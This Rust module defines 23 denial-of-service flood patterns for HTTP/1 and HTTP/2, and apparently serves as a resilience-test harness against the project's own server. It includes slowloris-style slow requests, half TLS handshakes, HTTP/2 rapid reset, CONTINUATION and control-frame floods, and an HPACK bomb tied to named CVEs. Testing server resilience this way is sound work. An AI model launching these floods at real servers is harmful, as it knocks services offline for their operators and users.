//! What each flood sends: every connection its beginning, and then more of it for as long as it may.

use std::time::Duration;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, GET_MEDIUM, HEADERS, PING, POST, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, hello, stream,
};
use crate::node::Ports;

/// One kind of flood.
pub struct Flood {
    /// What it is called.
    pub name: &'static str,
    /// The listener it is for.
    pub port: u16,
    /// Connections that it has open, or tries to open, at a time.
    pub connections: usize,
    /// Requests that a connection has under way at most, beyond its first.
    pub streams: usize,
    /// Requests that it has open at most that are reset as soon as they are seen.
    pub fleeting: usize,
    pub(super) begin: fn() -> Vec<u8>,
    /// The n-th piece after the beginning; empty = nothing more.
    pub(super) more: fn(u32) -> Vec<u8>,
    /// Between two pieces.
    pub(super) pause: Duration,
    /// What comes back is read.
    pub(super) reads: bool,
}

/// Connections of most floods: more than the site of [`super::site`] lets one address have.
const MANY: usize = 250;
/// Connections of those that ask for as many streams as they may.
const FEW: usize = 8;
/// Streams that a connection of HTTP/2 may have open by default.
const STREAMS: u32 = 128;
/// Frames in one piece.
const BATCH: u32 = 200;

const QUICK: Duration = Duration::from_millis(20);
const DRIP: Duration = Duration::from_millis(200);

fn nothing(_: u32) -> Vec<u8> {
    Vec::new()
}

fn drop_by_drop(_: u32) -> Vec<u8> {
    b"x".to_vec()
}

/// Every flood there is.
pub const FLOODS: [Flood; 23] = [
    http1("silent connections", Vec::new, nothing, DRIP),
    http1("slow heads", || b"GET / HTTP/1.1\r\nHost: a\r\nX: ".to_vec(), drop_by_drop, DRIP),
    http1(
        "slow bodies",
        || b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n".to_vec(),
        drop_by_drop,
        DRIP,
    ),
    http1("idle connections", || b"GET / HTTP/1.1\r\nHost: a\r\n\r\n".to_vec(), nothing, DRIP),
    Flood {
        reads: false,
        ..http1("slow readers", || b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n".to_vec(), nothing, DRIP)
    },
    Flood {
        reads: false,
        ..http1(
            "pipelines that nobody reads",
            Vec::new,
            |_| b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n".repeat(BATCH as usize),
            QUICK,
        )
    },
    http1("one long field", || b"GET / HTTP/1.1\r\nHost: a\r\nX: ".to_vec(), |_| vec![b'x'; 8 << 10], QUICK),
    http1(
        "many fields",
        || b"GET / HTTP/1.1\r\nHost: a\r\n".to_vec(),
        |_| b"X: y\r\n".repeat(BATCH as usize),
        QUICK,
    ),
    http1(
        "chunks of one byte",
        || b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec(),
        |_| b"1\r\nx\r\n".repeat(BATCH as usize),
        QUICK,
    ),
    Flood { port: Ports::HTTPS, ..http1("half handshakes", || vec![22, 3, 1, 2, 0, 1], nothing, DRIP) },
    Flood { fleeting: STREAMS as usize, ..http2("rapid reset", resets) },
    http2("CONTINUATION", |n| match n {
        0 => [frame(HEADERS, 0, 1, &GET), frame(CONTINUATION, 0, 1, &[])].concat(),
        _ => frame(CONTINUATION, 0, 1, &[]).repeat(BATCH as usize),
    }),
    http2("SETTINGS", |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9]).repeat(BATCH as usize)),
    http2("PING", |_| frame(PING, 0, 0, &[7; 8]).repeat(BATCH as usize)),
    http2("PRIORITY", |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 7]).repeat(BATCH as usize)),
    http2("WINDOW_UPDATE", |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(BATCH as usize)),
    http2("empty DATA", |n| match n {
        0 => frame(HEADERS, END_HEADERS, 1, &POST),
        _ => frame(DATA, 0, 1, &[]).repeat(BATCH as usize),
    }),
    http2("unknown frames", |_| frame(0x77, 0, 0, &[]).repeat(BATCH as usize)),
    http2("HPACK bomb", bombs),
    Flood { fleeting: STREAMS as usize, ..http2("streams broken on purpose", broken_streams) },
    Flood {
        connections: FEW,
        streams: STREAMS as usize,
        ..http2("streams beyond the limit", |n| opened(n * BATCH..(n + 1) * BATCH, END_HEADERS, &POST))
    },
    Flood {
        connections: FEW,
        streams: STREAMS as usize,
        begin: || [hello(&[(4, 0)]), opened(0..STREAMS, END_HEADERS | END_STREAM, &GET_MEDIUM)].concat(),
        ..http2("zero window", nothing)
    },
    Flood {
        connections: FEW,
        streams: STREAMS as usize,
        begin: || [hello(&[]), opened(0..STREAMS, END_HEADERS, &POST)].concat(),
        pause: DRIP,
        ..http2("slow streams", |n| frame(DATA, 0, stream(n % STREAMS), b"x"))
    },
];

const fn http1(
    name: &'static str,
    begin: fn() -> Vec<u8>,
    more: fn(u32) -> Vec<u8>,
    pause: Duration,
) -> Flood {
    Flood {
        name,
        port: Ports::HTTP,
        connections: MANY,
        streams: 0,
        fleeting: 0,
        begin,
        more,
        pause,
        reads: true,
    }
}

const fn http2(name: &'static str, more: fn(u32) -> Vec<u8>) -> Flood {
    http1(name, || hello(&[]), more, QUICK)
}

fn opened(streams: std::ops::Range<u32>, flags: u8, block: &[u8]) -> Vec<u8> {
    streams.flat_map(|n| frame(HEADERS, flags, stream(n), block)).collect()
}

/// Requests that are taken back at once (CVE-2023-44487).
fn resets(n: u32) -> Vec<u8> {
    let one = |n| {
        let reset = frame(RST_STREAM, 0, stream(n), &[0, 0, 0, 8]);
        [frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &GET), reset].concat()
    };
    (n * BATCH..(n + 1) * BATCH).flat_map(one).collect()
}

/// Requests that we have to reset, because their windows grow too large (CVE-2025-8671).
fn broken_streams(n: u32) -> Vec<u8> {
    let one = |n| {
        let grow = frame(WINDOW_UPDATE, 0, stream(n), &[0x7f, 0xff, 0xff, 0xff]);
        [frame(HEADERS, END_HEADERS, stream(n), &POST), grow].concat()
    };
    (n * BATCH..(n + 1) * BATCH).flat_map(one).collect()
}

/// Heads in which one large entry of the table is named again and again (CVE-2016-6581).
fn bombs(n: u32) -> Vec<u8> {
    let mut block = GET.to_vec();
    // `x` with 3,000 bytes goes into the table: the length is 127 + 2873 in seven bits a byte.
    block.extend([0x40, 1, b'x', 127, 0xb9, 0x16]);
    block.extend([b'y'; 3_000]);
    block.extend([0xbe; 10_000]);
    frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &block)
}
